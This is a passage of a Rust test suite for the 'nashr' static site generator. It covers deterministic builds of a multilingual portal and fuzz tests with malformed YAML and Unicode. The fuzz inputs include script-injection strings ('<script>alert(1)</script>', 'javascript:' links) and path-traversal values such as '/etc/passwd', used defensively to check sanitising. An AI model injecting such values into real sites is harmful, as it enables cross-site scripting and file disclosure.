        "Amina", "Élodie", "Zoé", "Bilal", "Ørjan", "Işıl", "Łukasz", "Tariq", "Ünal", "Chloé",
    ];
    let last = [
        "Shah", "Dubois", "Martin", "Khan", "Ærø", "Çelik", "Nowak", "Ali",
    ];
    let urdu = ["آمنہ", "بلال", "طارق", "پروین", "ٹیپو", "زوئی", "ایو"];
    let mut authors = Vec::new();
    for i in 0..30 {
        let slug = format!("person-{i:02}");
        let name = format!("{} {}", rng.pick(&first), rng.pick(&last));
        let org = rng.chance(20);
        site.write(
            &format!("content/authors/{slug}.md"),
            &format!(
                "---\nname: {name}\n{}---\nBio of {name}.\n",
                if org { "kind: organisation\n" } else { "" }
            ),
        );
        if rng.chance(50) {
            site.write(
                &format!("content/authors/{slug}.ur.md"),
                &format!("---\nname: {} {i}\n---\n", rng.pick(&urdu)),
            );
        }
        authors.push(slug);
    }
    let mut topics = Vec::new();
    for i in 0..12 {
        let slug = format!("topic-{i}");
        site.write(
            &format!("content/topics/{slug}.md"),
            &format!(
                "---\ntitle: {} {i}\n---\n",
                rng.pick(&["Courts", "Équité", "Zones", "Ânes", "Øl"])
            ),
        );
        if rng.chance(60) {
            site.write(
                &format!("content/topics/{slug}.fr.md"),
                &format!("---\ntitle: Thème {i}\n---\n"),
            );
        }
        if rng.chance(40) {
            site.write(
                &format!("content/topics/{slug}.ar.md"),
                &format!("---\ntitle: موضوع {i}\n---\n"),
            );
        }
        topics.push(slug);
    }
    for i in 0..5 {
        site.write(
            &format!("content/projects/project-{i}/index.md"),
            &format!(
                "---\ntitle: Project {i}\nstatus: {}\nstart: 20{:02}-0{}\nleaders: [{}]\ntopics: [{}]\ncountries: [PK, CA]\nfunding: {{ amount: {}, currency: CAD }}\n---\nAbout project {i}.\n",
                rng.pick(&["active", "completed"]),
                10 + rng.below(10),
                1 + rng.below(9),
                rng.pick(&authors),
                rng.pick(&topics),
                1000 * (1 + rng.below(500)),
            ),
        );
    }
    let types = [
        "report",
        "training-material",
        "brief",
        "article",
        "dataset",
        "presentation",
        "video",
    ];
    for i in 0..60 {
        let n = 1 + rng.below(4);
        let by: Vec<&str> = (0..n).map(|_| rng.pick(&authors).as_str()).collect();
        let mut by_unique = by.clone();
        by_unique.sort();
        by_unique.dedup();
        let about: Vec<&str> = (0..1 + rng.below(3))
            .map(|_| rng.pick(&topics).as_str())
            .collect();
        let mut about_unique = about.clone();
        about_unique.sort();
        about_unique.dedup();
        let date = match rng.below(3) {
            0 => format!("20{:02}", 10 + rng.below(12)),
            1 => format!("20{:02}-{:02}", 10 + rng.below(12), 1 + rng.below(12)),
            _ => format!(
                "20{:02}-{:02}-{:02}",
                10 + rng.below(12),
                1 + rng.below(12),
                1 + rng.below(28)
            ),
        };
        let project = if rng.chance(50) {
            format!("project: project-{}\n", rng.below(5))
        } else {
            String::new()
        };
        site.write(
            &format!("content/outputs/output-{i:02}/index.md"),
            &format!(
                "---\ntitle: Output {i} {}\ntype: {}\ndate: {date}\nauthors: [{}]\ntopics: [{}]\n{project}---\nFirst paragraph of {i}.\n\n## Method\n\nText.\n",
                rng.pick(&first),
                rng.pick(&types),
                by_unique.join(", "),
                about_unique.join(", "),
            ),
        );
        if rng.chance(50) {
            site.write(
                &format!("content/outputs/output-{i:02}/index.fr.md"),
                &format!("---\ntitle: Publication {i}\n---\nEn français.\n"),
            );
        }
        if rng.chance(30) {
            site.write(
                &format!("content/outputs/output-{i:02}/index.ur.md"),
                &format!("---\ntitle: اشاعت {i}\n---\nاردو میں۔\n"),
            );
        }
    }
    for (i, slug) in ["about", "contact", "faq"].iter().enumerate() {
        site.write(
            &format!("content/pages/{slug}.md"),
            &format!(
                "---\ntitle: Page {slug}\nmenu_weight: {}\n---\nText.\n",
                3 - i
            ),
        );
    }
    site
}

#[test]
fn a_portal_with_many_items_in_four_languages_builds_byte_identically() {
    let site = many_items_portal(&mut Rng(2024));
    let first = site.built();
    assert!(first.report.pages > 500, "{}", first.report.pages);
    let a = snapshot(&first.out);
    let second = common::build_into(site.root(), &site.root().join("again"))
        .unwrap_or_else(|f| panic!("{}", common::text(&f.errors)));
    assert_same_site(&a, &snapshot(&second.out), "second build");
    // And a third build, of a copy of the portal written in another order, too.
    let copy = many_items_portal(&mut Rng(2024));
    let third = copy.built();
    assert_same_site(&a, &snapshot(&third.out), "build of a copy");
}

// ---------------------------------------------------------------------------------------------
// Random input: never a panic; a site that builds is well-formed
// ---------------------------------------------------------------------------------------------

/// Pieces of text from many scripts, with control, bidi and other awkward characters.
const PIECES: &[&str] = &[
    "Access to justice",
    "عدالت تک رسائی",
    "العدالة",
    "שלום",
    "Égalité des chances",
    "数据",
    "👩🏽‍⚖️",
    "e\u{301}",
    "\u{202e}reversed\u{202c}",
    "\u{2066}isolated\u{2069}",
    "\u{200f}",
    "\u{200d}",
    "\u{0}",
    "\u{7}",
    "\u{1b}[31m",
    "\u{7f}",
    "\u{85}",
    "\u{2028}",
    "\u{2029}",
    "\u{feff}",
    "\u{fffd}",
    "\u{10ffff}",
    "ﷺ",
    "<script>alert(1)</script>",
    "</script>",
    "<b>",
    "&amp;",
    "&#0;",
    "&#x110000;",
    "\"",
    "'",
    "{{ x }}",
    "{% if %}",
    "{#",
    "*",
    "_",
    "`",
    "[",
    "]",
    "(",
    ")",
    "|",
    "\\",
    "~~",
    "@/outputs/nowhere",
    "javascript:alert(1)",
    "\t",
    " ",
    "  ",
    ":",
    "- ",
    "!",
    "##",
    "%",
    "?",
];

fn random_text(rng: &mut Rng, max: usize) -> String {
    (0..rng.below(max) + 1)
        .map(|_| *rng.pick(PIECES))
        .collect::<Vec<_>>()
        .join(if rng.chance(50) { " " } else { "" })
}

/// A value for a front-matter field: usually well-formed YAML, sometimes not.
fn random_value(rng: &mut Rng) -> String {
    match rng.below(12) {
        0 => random_text(rng, 6),
        1 => format!("'{}'", random_text(rng, 4)),
        2 => format!(
            "[{}, {}]",
            random_text(rng, 2),
            rng.pick(&["dastak", "nobody", "courts"])
        ),
        3 => "{ a: 1, b: [2, 3] }".into(),
        4 => format!("{}", rng.next() as i64),
        5 => "~".into(),
        6 => "|\n  line one\n  line two".into(),
        7 => format!("&anchor {}", rng.pick(&["x", "*anchor", "[1, *anchor]"])),
        8 => rng
            .pick(&[
                "2021-02-30",
                "2021",
                "2021-13",
                "1e309",
                ".nan",
                "-0",
                "0x1F",
                "true",
            ])
            .to_string(),
        _ => yq(&random_text(rng, 8)),
    }
}

/// A front matter for an output: a valid core with random changes, or random lines.
fn random_front_matter(rng: &mut Rng) -> String {
    let mut lines: Vec<String> = Vec::new();
    if rng.chance(85) {
        lines.push(format!("title: {}", yq(&random_text(rng, 6))));
    }
    if rng.chance(85) {
        lines.push(format!(
            "type: {}",
            rng.pick(&[
                "report",
                "brief",
                "video",
                "reprot",
                "\"dataset\"",
                "[report]"
            ])
        ));
    }
    if rng.chance(85) {
        lines.push(format!(
            "date: {}",
            rng.pick(&[
                "2021-06-30",
                "2020",
                "2019-02",
                "2021-02-30",
                "\"2024-02-29\"",
                "yesterday"
            ])
        ));
    }
    if rng.chance(40) {
        lines.push(format!(
            "authors: [{}]",
            rng.pick(&[
                "dastak",
                "dastak, dastak",
                "nobody",
                "",
                "dastak, \"عدالت\""
            ])
        ));
    }
    if rng.chance(30) {
        lines.push(format!("abstract: {}", random_value(rng)));
    }
    if rng.chance(20) {
        lines.push(format!(
            "topics: {}",
            rng.pick(&["[courts]", "courts", "[]", "3", "{ a: b }"])
        ));
    }
    if rng.chance(15) {
        lines.push(format!(
            "files:\n  - {{ path: {} }}",
            rng.pick(&[
                "summary.pdf",
                "../x",
                "/etc/passwd",
                "missing.pdf",
                "\"\"",
                "."
            ])
        ));
    }
    if rng.chance(10) {
        lines.push(format!(
            "url: {}",
            rng.pick(&["https://example.org", "javascript:alert(1)", "\"\""])
        ));
    }
    for _ in 0..rng.below(3) {
        let junk = [
            "a: [".to_owned(),
            "b: {".to_owned(),
            "c: 'unterminated".to_owned(),
            "\td: tab".to_owned(),
            "- at top".to_owned(),
            "? complex".to_owned(),
            ": :".to_owned(),
            "e: *undefined".to_owned(),
            "f: !!int notanint".to_owned(),
            "%YAML 1.2".to_owned(),
            "title: again".to_owned(),
            "  indented: x".to_owned(),
            format!("{}: {}", random_text(rng, 2), random_value(rng)),
            format!("note: {}", random_value(rng)),
            format!(
                "extra: {}{}",
                "[".repeat(rng.below(64)),
                "]".repeat(rng.below(64))
            ),
        ];
        let at = rng.below(lines.len() + 1);
        lines.insert(at, rng.pick(&junk).clone());
    }
    lines.join("\n") + "\n"
}

/// A Markdown body mixing every construct, nested up to a modest depth. Level-one headings are
/// left out: they are the subject of their own test.
fn random_body(rng: &mut Rng) -> String {
    let mut out = String::new();
    for _ in 0..rng.below(12) {
        let depth = rng.below(40);
        let block = match rng.below(16) {
            0 => format!("{} {}\n", "#".repeat(2 + rng.below(5)), random_text(rng, 4)),
            1 => format!("{}{}\n", "- ".repeat(depth + 1), random_text(rng, 4)),
            2 => format!("{} {}\n", ">".repeat(depth + 1), random_text(rng, 4)),
            3 => format!(
                "```{}\n{}\n{}",
                rng.pick(&["", "rust", "python", "nosuchlang", "<script>", "\"x"]),
                random_text(rng, 8),
                if rng.chance(80) { "```\n" } else { "" }
            ),
            4 => format!(
                "| {} | b |\n|---|---|\n| {} | 2 |\n",
                random_text(rng, 2),
                random_text(rng, 2)
            ),
            5 => format!(
                "Text[^{}].\n\n[^1]: {}\n",
                rng.below(3),
                random_text(rng, 4)
            ),
            6 => format!(
                "[{}]({})\n",
                random_text(rng, 2),
                rng.pick(&[
                    "javascript:alert(1)",
                    "@/outputs/x",
                    "@/",
                    "summary.pdf",
                    "https://e.org",
                    "#top",
                    "/en/",
                    "data:text/html,x",
                    "<a b>"
                ])
            ),
            7 => format!(
                "![{}]({})\n",
                random_text(rng, 2),
                rng.pick(&["x.png", "javascript:x", ""])
            ),
            8 => {
                rng.pick(&[
                    "<div>",
                    "</div>",
                    "<script>alert(1)</script>",
                    "<!--",
                    "<p onclick=\"x\">",
                    "<table><tr><td>",
                    "<a href=\"javascript:x\">x</a>",
                    "<textarea>",
                    "</article></main>",
                ])
                .to_string()
                    + "\n"
            }
            9 => format!("- [{}] {}\n", rng.pick(&["x", " "]), random_text(rng, 3)),
            10 => format!(
                "## {} {{#{}}}\n",
                random_text(rng, 2),
                rng.pick(&["id", "", "a b", "\"q\""])
            ),
            11 => format!(
                "{}{}{}\n",
                "*".repeat(depth),
                random_text(rng, 3),
                "_".repeat(depth)
            ),
            12 => format!(
                "{}x{}\n",
                "[".repeat(depth),
                "]".repeat(rng.below(depth + 1))
            ),
            13 => "---\n".into(),
            14 => format!(
                "{}\n{}\n",
                random_text(rng, 6),
                rng.pick(&["---", "***", ""])
            ),
            _ => format!("{}\n", random_text(rng, 12)),
        };
        out.push_str(&block);
        out.push('\n');
    }
    out
}

/// One random portal: a fixed valid frame and a random output (and sometimes a translation, an
/// author and a home text), written as text or, sometimes, as raw bytes.
fn random_portal(rng: &mut Rng) -> (TestSite, bool) {
    let safe = rng.chance(30);
    let site = TestSite::new(&format!(
        "title: {}\nbase_url: https://example.org/r\nlanguages:\n  - {{ code: en }}\n  - {{ code: ur, direction: rtl }}\n{}",
        yq(&random_text(rng, 3)),
        if safe { "safe_html: true\n" } else { "" }
    ));
    site.write(
        "content/authors/dastak.md",
        "---\nname: Dastak\nkind: organisation\n---\n",
    );
    site.write("content/topics/courts.md", "---\ntitle: Courts\n---\n");
    site.write("content/outputs/x/summary.pdf", "%PDF\n");
    // Half the portals are valid apart from their random text, so that both outcomes are
    // exercised; the others get broken YAML, missing fields, odd encodings and bytes.
    let hostile = rng.chance(50);
    let file = |rng: &mut Rng, path: &str| {
        if !hostile {
            let mut front = format!(
                "title: {}\ntype: {}\ndate: {}\n",
                yq(&random_text(rng, 6)),
                rng.pick(&["report", "brief", "video", "dataset"]),
                rng.pick(&["2021-06-30", "2020", "2019-02"])
            );
            if rng.chance(50) {
                front.push_str("authors: [dastak]\ntopics: [courts]\n");
            }
            if rng.chance(50) {
                front.push_str(&format!("abstract: {}\n", yq(&random_text(rng, 8))));
            }
            if path.starts_with("content/outputs/x/") && rng.chance(50) {
                front.push_str("files:\n  - { path: summary.pdf }\n");
            }
            site.write(path, &format!("---\n{front}---\n{}", random_body(rng)));
            return;
        }
        let mut text = match rng.below(20) {
            0 => String::new(),
            1 => random_body(rng),
            2 => format!("---\n{}", random_front_matter(rng)),
            _ => format!("---\n{}---\n{}", random_front_matter(rng), random_body(rng)),
        };
        if rng.chance(10) {
            let eol = *rng.pick(&["\r\n", "\r"]);
            text = text.replace('\n', eol);
        }
        let mut bytes = text.into_bytes();
        if rng.chance(5) {
            bytes.insert(0, 0xEF);
            bytes.insert(1, 0xBB);
            bytes.insert(2, 0xBF);
        }
        if rng.chance(5) && !bytes.is_empty() {
            let at = rng.below(bytes.len());
            bytes[at] = *rng.pick(&[0xFF, 0xC0, 0x80, 0xED]);
        }
        site.write_bytes(path, &bytes);
    };
    file(rng, "content/outputs/x/index.md");
    if rng.chance(40) {
        file(rng, "content/outputs/x/index.ur.md");
    }
    if rng.chance(30) {
        file(rng, "content/outputs/y/index.md");
    }
    if rng.chance(20) {
        file(rng, "content/_index.md");
    }
    if !hostile && rng.chance(20) {
        site.write(
            "content/authors/random.md",
            &format!(
                "---\nname: {}\n---\n{}",
                yq(&random_text(rng, 3)),
                random_body(rng)
            ),
        );
    }
    (site, safe)
}

/// Control characters in titles and abstracts make the feeds invalid XML today (see
/// `control_characters_in_text_keep_every_xml_file_well_formed`); set this to `false` once fixed.
const KNOWN_BUG_CONTROL_CHARACTERS_IN_XML: bool = false;

/// Builds `count` random portals from `seed`: each build returns, and a site that builds has
/// pages that parse with exactly one `<h1>` and (when sanitised) only the theme's scripts.
fn random_builds(seed: u64, count: usize) {
    let mut rng = Rng(seed);
    let (mut ok, mut failed) = (0, 0);
    for case in 0..count {
        let (site, safe) = random_portal(&mut rng);
        let (root, out) = (site.root().to_path_buf(), site.output());
        let result = catch_unwind(AssertUnwindSafe(|| {
            let mut options = nashr::BuildOptions::new(&root);
            options.output = out.clone();
            nashr::build(&options)
        }));
        let result = match result {
            Ok(r) => r,
            Err(_) => {
                let dir = site.dir.keep();
                panic!(
                    "seed {seed}, case {case}: nashr panicked; the portal is kept in {}",
                    dir.display()
                );
            }
        };
        match result {
            Err(f) => {
                assert!(
                    !f.errors.is_empty(),
                    "seed {seed}, case {case}: a failure without errors"
                );
                assert!(
                    !out.exists(),
                    "seed {seed}, case {case}: a failed build wrote files"
                );
                failed += 1;
            }
            Ok(report) => {
                ok += 1;
                let built = Built {
                    out: out.clone(),
                    report,
                };
                for f in html_files(&built) {
                    let page = built.html(&f);
                    let h1 = page.count("h1");
                    if h1 != 1 || page.count("html[lang]") != 1 {
                        let dir = site.dir.keep();
                        panic!(
                            "seed {seed}, case {case}: {f} has {h1} <h1>; the portal is kept in {}",
                            dir.display()
                        );
                    }
                    if safe {
                        if let Err(e) = theme_scripts_only(&page) {
                            panic!("seed {seed}, case {case}: {e}");
                        }
                    }
                }
                for f in built.files().into_iter().filter(|f| f.ends_with(".xml")) {
                    let xml = built.read(&f);
                    let parsed = roxmltree::Document::parse(&xml);
                    if let Err(roxmltree::Error::NonXmlChar(c, _)) = parsed {
                        if KNOWN_BUG_CONTROL_CHARACTERS_IN_XML && c.is_control() {
                            continue;
                        }
                    }
                    if let Err(e) = parsed {
                        let dir = site.dir.keep();
                        panic!(
                            "seed {seed}, case {case}: {f} is not XML ({e}); kept in {}",
                            dir.display()
                        );
                    }
                }
            }
        }
    }
    // The generator must exercise both outcomes.
    assert!(
        ok > count / 10 && failed > count / 10,
        "{ok} built, {failed} failed"
    );
}

#[test]
fn random_input_never_panics_batch_1() {
    random_builds(1, 40);
}

#[test]
fn random_input_never_panics_batch_2() {
    random_builds(2, 40);
}

#[test]
fn random_input_never_panics_batch_3() {
    random_builds(3, 40);
}

/// Output cards are cached with a private-use mark for the page's root prefix: a title with
/// private-use characters of its own comes out as written on every list.
#[test]
fn private_use_characters_in_a_title_survive_the_card_cache() {
    let title = "Private \u{E000} use \u{E001}";
    let site = output_with(&format!(
        "title: \"{title}\"\ntype: report\ndate: 2021-06-30\ntopics: [courts]\n"
    ));
    let built = site.built();
    for page in ["en/outputs/index.html", "en/topics/courts/index.html"] {
        assert_eq!(built.html(page).text(".output-card h3 a"), title, "{page}");
    }
}
